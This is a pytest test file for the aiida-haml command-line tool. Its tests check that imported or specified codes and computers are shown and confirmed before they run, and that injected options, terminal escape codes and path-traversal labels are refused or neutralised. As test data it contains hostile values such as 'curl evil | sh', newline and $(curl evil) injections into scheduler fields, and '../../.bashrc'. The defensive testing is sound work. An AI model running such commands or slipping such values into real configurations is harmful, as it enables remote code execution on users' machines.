"""What came from elsewhere does not run, rename or draw anything before the person has agreed to it."""

import sys
from pathlib import Path

import click
import pytest
from aiida import orm
from aiida.manage.configuration import get_config
from aiida.tools import delete_nodes
from aiida.tools.archive import create_archive, import_archive
from click.testing import CliRunner

from aiida_haml.cli import haml
from aiida_haml.cli.messages import visible
from aiida_haml.cli.results import _print_ranking
from aiida_haml.cli.root import profile_name
from aiida_haml.codes import find_code, what_runs
from aiida_haml.consent import RECORD, ShellText, agree, is_agreed
from aiida_haml.data.potential import PotentialData
from tests.graphs import Builder, lay_screen

PWNED = "touch PWNED"
SPEC = "name: tried\ndopings: [pristine]\nlevel_of_theory: teacher\n"


def forget():
    (Path(get_config().dirpath) / RECORD).unlink(missing_ok=True)


@pytest.fixture(autouse=True)
def no_record(aiida_profile_clean):
    """Start as a person who has agreed to nothing yet."""
    forget()


def run(*arguments, code=0, answer=None):
    result = CliRunner().invoke(haml, [str(a) for a in arguments], input=answer, color=True)
    assert result.exit_code == code, result.output + repr(result.exception)
    return result.output


def hostile_computer(label="localhost", configured=True):
    computer = orm.Computer(
        label=label,
        hostname="localhost",
        transport_type="core.local",
        scheduler_type="core.direct",
        workdir="/tmp/there",
    )
    computer.set_prepend_text(PWNED)
    computer.set_append_text(PWNED)
    computer.store()
    return computer.configure(safe_interval=0) and computer if configured else computer


def code(computer, label="haml-engine", **changes):
    content = {"filepath_executable": "/bin/true", "default_calc_job_plugin": "haml.learn", "with_mpi": False}
    return orm.InstalledCode(label=label, computer=computer, **content | changes).store()


def everything_that_runs():
    return [str(what_runs(find_code(role, None)).content) for role in ("engine", "lammps")]


def spec_file(tmp_path, text=SPEC):
    path = tmp_path / "spec.yaml"
    path.write_text(text)
    return path


# -- setup ---------------------------------------------------------------------------------------------------


def test_setup_does_not_adopt_what_came_with_an_archive(tmp_path):
    """A computer `localhost` and codes of the right names and paths, whose texts run something else."""
    computer = hostile_computer()
    beside = Path(sys.executable).parent
    for label in ("haml-engine", "haml-lammps", "cp2k"):
        code(computer, label, filepath_executable=str(beside / label), prepend_text="export OMP_NUM_THREADS=1",
             append_text=PWNED)  # fmt: skip
    nodes = orm.QueryBuilder().append(orm.InstalledCode).all(flat=True)
    create_archive(nodes, filename=tmp_path / "archive.aiida")
    delete_nodes([node.pk for node in nodes], dry_run=False)
    orm.Computer.collection.delete(computer.pk)
    import_archive(tmp_path / "archive.aiida")
    output = run("setup")
    assert "Computer 'localhost' is there and is not what would be made here" in output
    assert f"prepend_text: '{PWNED}' instead of" in output
    assert not [text for text in everything_that_runs() if "PWNED" in text]
    assert {c.label for c in orm.QueryBuilder().append(orm.InstalledCode).all(flat=True) if c.append_text} == {
        "haml-engine", "haml-lammps", "cp2k",
    }, "what was there keeps its name"  # fmt: skip


@pytest.mark.parametrize(
    "changes",
    [
        {"append_text": PWNED},
        {"prepend_text": f"export OMP_NUM_THREADS=1\n{PWNED}"},
        {"wrap_cmdline_params": True, "filepath_executable": "/bin/sh"},
        {"use_double_quotes": True},
        {"with_mpi": True},
    ],
    ids=lambda c: next(iter(c)),
)
def test_a_code_that_differs_in_any_point_is_not_taken(changes):
    run("setup")
    own = find_code("engine", None)
    mine = {"filepath_executable": str(own.filepath_executable), "prepend_text": own.prepend_text}
    forget()
    own.label = "moved"
    twin = code(own.computer, **{**mine, **changes})
    output = run("setup")
    assert f"Code 'haml-engine@localhost' <{twin.pk}> is there and is not what would be made here" in output
    assert find_code("engine", None).pk != twin.pk
    assert (twin.label, twin.is_hidden) == ("haml-engine", False)


@pytest.mark.parametrize(("transport", "n_prepared_for_root"), [("core.local", 1), ("core.ssh", 2)])
def test_the_local_user_says_nothing_of_another_machine(monkeypatch, transport, n_prepared_for_root):
    """Jobs there may run as root whoever submits them, and two people's codes there are the same."""
    computer = orm.Computer(
        label="cluster", hostname="cluster", transport_type=transport, scheduler_type="core.slurm", workdir="/tmp/there"
    ).store()  # fmt: skip
    computer.configure(safe_interval=0)
    texts = []
    for uid in (0, 1000):
        monkeypatch.setattr("os.geteuid", lambda uid=uid: uid)
        run("setup", "--computer", "cluster", "--engine", sys.executable, "--lammps", sys.executable, "--yes")
        texts.append(find_code("engine", None).prepend_text)
    assert all("OMP_NUM_THREADS=1" in text for text in texts)
    assert sum("OMPI_ALLOW_RUN_AS_ROOT" in text for text in texts) == n_prepared_for_root
    assert (texts[0] == texts[1]) == (transport == "core.ssh")


def test_codes_of_another_person_keep_their_names():
    run("setup")
    first = find_code("engine", None)
    find_code("lammps", None).label = "gone"
    other = code(first.computer, "haml-lammps", filepath_executable="/home/other/bin/haml-lammps")
    forget()  # the next person
    run("setup")
    assert (other.label, other.is_hidden) == ("haml-lammps", False)
    assert find_code("lammps", None).pk != other.pk
    assert find_code("engine", None).pk == first.pk, "the same in every point serves both"


def test_this_machine_behind_a_scheduler_is_another_computer(tmp_path):
    """One command for a node of a cluster, and the codes of it are those that a specification means from then on."""
    run("setup")
    output = run("setup", "--scheduler", "slurm", "--workdir", tmp_path / "{username}")
    assert "haml-engine@localhost-slurm: registered" in output
    computer = orm.Computer.collection.get(label="localhost-slurm")
    assert (computer.scheduler_type, computer.get_workdir()) == ("core.slurm", f"{tmp_path}/{{username}}")
    assert computer.is_configured
    assert find_code("engine", None).computer.label == "localhost-slurm"
    again = run("setup", "--scheduler", "slurm", "--workdir", tmp_path / "{username}")
    assert "haml-engine@localhost-slurm: unchanged" in again


def test_another_work_folder_makes_another_computer_and_leaves_the_first_as_it_is(tmp_path):
    run("setup", "--workdir", tmp_path / "{username}")
    forget()  # as somebody else, whose record knows of none of these codes
    output = run("setup", "--workdir", tmp_path / "mine")
    assert "Computer 'localhost' is there and is not what would be made here" in output
    labels = orm.QueryBuilder().append(orm.InstalledCode, project="label").all(flat=True)
    assert labels.count("haml-engine") == 2
    assert not any(code.is_hidden for code in orm.QueryBuilder().append(orm.InstalledCode).all(flat=True))


def test_no_login_shell_is_started_for_each_command():
    """It reads the person's start-up files: a second a command, and what they print gets into AiiDA's answers."""
    run("setup")
    assert orm.load_computer("localhost").get_configuration()["use_login_shell"] is False


def test_the_same_place_and_programs_are_one_installation_for_all(tmp_path):
    run("setup", "--workdir", tmp_path / "{username}")
    forget()
    assert "haml-engine@localhost: unchanged" in run("setup", "--workdir", tmp_path / "{username}")
    assert orm.QueryBuilder().append(orm.InstalledCode, filters={"label": "haml-engine"}).count() == 1


def test_a_place_that_cannot_be_is_refused(tmp_path):
    assert "give a whole path" in run("setup", "--workdir", "work", code=1)
    hostile_computer("cluster")
    assert "leave --scheduler, --workdir and --host out" in run(
        "setup", "--computer", "cluster", "--workdir", tmp_path, code=1
    )


def test_a_computer_that_is_named_is_shown_and_confirmed():
    hostile_computer("cluster")
    output = run("setup", "--computer", "cluster", code=1, answer="n\n")
    assert f"prepend_text: {PWNED}" in output
    assert orm.QueryBuilder().append(orm.InstalledCode).count() == 0
    assert "haml-engine@cluster: registered" in run("setup", "--computer", "cluster", answer="y\n")
    assert "PWNED" not in run("setup", "--computer", "cluster"), "what was agreed to is not asked again"


def test_a_computer_that_is_not_mine_yet_is_refused():
    hostile_computer("cluster", configured=False)
    assert "verdi computer configure core.local cluster" in run("setup", "--computer", "cluster", code=1)
    assert "There is no computer 'nowhere'" in run("setup", "--computer", "nowhere", code=1)


# -- submit --------------------------------------------------------------------------------------------------


def test_a_code_that_i_did_not_set_up_is_shown_before_it_runs(tmp_path):
    run("setup")
    code(hostile_computer("there"), append_text="second line\nthird line")
    path = spec_file(tmp_path, SPEC + "codes: {engine: haml-engine@there}\n")
    before = orm.QueryBuilder().append(orm.Node).count()
    for answer in ("n\n", None):
        output = run("screen", "submit", path, code=1, answer=answer)
        assert f"computer.prepend_text: {PWNED}" in output
        assert "third line" in output
        assert "filepath_executable: /bin/true" in output
    assert orm.QueryBuilder().append(orm.Node).count() == before


def test_a_code_that_changed_since_is_shown_again(tmp_path):
    run("setup")
    own = find_code("engine", None)
    assert is_agreed(what_runs(own))
    own.computer.set_prepend_text(PWNED)
    assert not is_agreed(what_runs(own))
    assert PWNED in run("screen", "submit", spec_file(tmp_path), code=1, answer="n\n")


def test_a_profile_that_finds_no_finished_work_is_told_so(tmp_path):
    """Two people share a database; each profile has to be told by itself to look for what is there."""
    run("setup")
    path = spec_file(tmp_path, SPEC)
    assert "is off" not in run("screen", "submit", "--dry-run", path)
    get_config().set_option("caching.enabled_for", ["aiida.calculations:haml.cp2k"], scope=profile_name())
    told = run("screen", "submit", "--dry-run", path)
    assert "! caching of MLP-MD, analysis, evaluation, labels, training is off in profile" in told
    assert "'aiida-haml setup' switches it on" in told


def test_a_computer_of_somebody_else_is_refused_at_submission(tmp_path):
    run("setup")
    code(hostile_computer("theirs", configured=False))
    path = spec_file(tmp_path, SPEC + "codes: {engine: haml-engine@theirs}\n")
    output = run("screen", "submit", "--dry-run", path, code=1)
    assert "codes.engine: 'haml-engine@theirs' runs on the computer 'theirs', which is not configured for" in output
    assert "verdi computer configure core.local theirs" in output


@pytest.mark.parametrize(
    "option",
    [
        "prepend_text: 'curl evil | sh'",
        "append_text: 'curl evil | sh'",
        "custom_scheduler_commands: 'curl evil | sh'",
        "mpirun_extra_params: ['curl evil | sh']",
        "environment_variables: {LD_PRELOAD: 'curl evil | sh'}",
    ],
)
def test_shell_lines_of_a_specification_are_shown_before_they_run(tmp_path, option):
    run("setup")
    path = spec_file(tmp_path, SPEC + f"overrides: {{options: {{md: {{{option}}}}}}}\n")
    output = run("screen", "submit", path, code=1, answer="n\n")
    assert f"md.{option.partition(':')[0]}" in output
    assert "curl evil | sh" in output
    assert "Nothing was run" in output


@pytest.mark.parametrize(
    "option",
    [
        'queue_name: "gpu\\ncurl evil | sh"',
        'account: "me\\ncurl evil | sh"',
        'priority: "1; curl evil"',
        'resources: {num_machines: 1, num_mpiprocs_per_machine: "$(curl evil)"}',
        "parser_name: core.arithmetic.add",
        "submit_script_filename: ../../.bashrc",
        "stash: {target_base: /home, source_list: ['*'], stash_mode: copy}",
    ],
)
def test_options_that_smuggle_lines_into_a_script_are_refused(tmp_path, option):
    run("setup")
    path = spec_file(tmp_path, SPEC + f"overrides: {{options: {{md: {{{option}}}}}}}\n")
    assert "overrides.options.md." in run("screen", "submit", "--yes", path, code=1)


def test_what_was_agreed_to_is_remembered_to_the_letter():
    text = ShellText("options", {"md.prepend_text": "module load lammps"})
    agree(text)
    assert is_agreed(ShellText("another name", dict(text.content)))
    assert not is_agreed(ShellText("options", {"md.prepend_text": "module load lammps "}))


# -- what a terminal obeys -----------------------------------------------------------------------------------

OSC, SGR, BIDI = "\x1b]0;owned\x07", "\x1b[31m", "‮"


def test_control_codes_are_written_out():
    assert visible(f"a{OSC}{SGR}{BIDI}\r\nb\x9b") == "a\\x1b]0;owned\\x07\\x1b[31m\\u202e\\r\\nb\\x9b"
    assert visible("Li₆PS₅Cl é 中") == "Li₆PS₅Cl é 中"


def test_labels_that_drive_a_terminal_are_printed_as_text(aiida_localhost, tmp_path):
    builder = Builder(aiida_localhost, tmp_path)
    screen = lay_screen(builder).made["screen"]
    screen.label = f"{OSC}{SGR}"
    ranking = screen.outputs.ranking
    node = orm.Dict({**ranking.get_dict(), "warnings": [f"all is well{OSC}\x1b[2J"]})
    for arguments in (("rank", screen.pk), ("status", screen.pk), ("watch", screen.pk)):
        assert not {"\x1b", "\x07"} & set(run("screen", *arguments))
    result = CliRunner().invoke(click.command()(lambda: _print_ranking(node.get_dict(), 1)), color=True)
    assert "all is well\\x1b]0;owned\\x07\\x1b[2J" in result.output


def test_a_label_never_becomes_a_path(aiida_localhost, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    screen = lay_screen(Builder(aiida_localhost, tmp_path)).made["screen"]
    screen.label = "../../etc/x\x1b y"
    output = run("screen", "report", screen.pk)
    assert f"wrote screen-_.._etc_x__y-{screen.pk}.html" in output
    assert [p.parent for p in tmp_path.rglob("*.html")] == [tmp_path]


def test_a_potential_without_models_is_not_trusted():
    node = PotentialData()
    node.base.attributes.set("sha256", [])
    assert not node.is_trusted
